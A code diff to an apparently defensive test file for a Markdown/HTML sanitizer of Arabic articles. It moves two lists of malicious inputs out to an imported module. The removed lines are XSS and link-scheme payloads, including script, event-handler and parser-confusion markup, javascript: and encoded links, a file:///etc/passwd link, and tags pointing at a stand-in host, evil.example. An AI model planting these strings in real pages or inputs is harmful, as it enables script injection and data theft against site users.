@@ -1,56 +1,7 @@
+import { ADDRESSES, SCRIPTS } from './written-scripts.ts';
+
 /** Texts of articles that were written to break what reads them, by what their editor is told. */
 type Told = 'nothing' | 'advice' | 'error';
-
-const SCRIPTS = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script href="data:,alert(1)"/></svg>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="//evil.example/x.swf">',
-  '<base href="//evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<link rel="stylesheet" href="//evil.example/x.css">',
-  '<style>*{display:none}</style>',
-  '<form action="//evil.example"><input name=q></form>',
-  '<a href="javascript:alert(1)">خبر</a>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '</main></body></html><script>alert(1)</script>',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]> <b>نصّ</b>',
-  '<b <script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src="a.png" alt="x">',
-  '<p style="position:fixed;inset:0">نصّ</p>',
-  '<marquee onstart=alert(1)>نصّ</marquee>',
-  '<portal src="//evil.example"></portal>',
-];
-
-const ADDRESSES = [
-  '[خبر](javascript:alert(1))',
-  '[خبر](JavaScript:alert(1))',
-  '[خبر](javascript&colon;alert(1))',
-  '[خبر](&#106;avascript:alert(1))',
-  '[خبر](data:text/html,<script>alert(1)</script>)',
-  '[خبر](vbscript:msgbox)',
-  '[خبر](file:///etc/passwd)',
-  '[خبر](intent://evil#Intent;end)',
-  '[خبر](blob:https://evil.example/1)',
-  '[خبر](ftp://evil.example/)',
-  '[خبر](//evil.example/)',
-  '[خبر](ws://evil.example/)',
-  '[خبر](about:blank)',
-  '[خبر](view-source:x)',
-  '[خبر](unknown-scheme:x)',
-];
 
 const OPEN = [
   '**نصّ لم يُغلق',
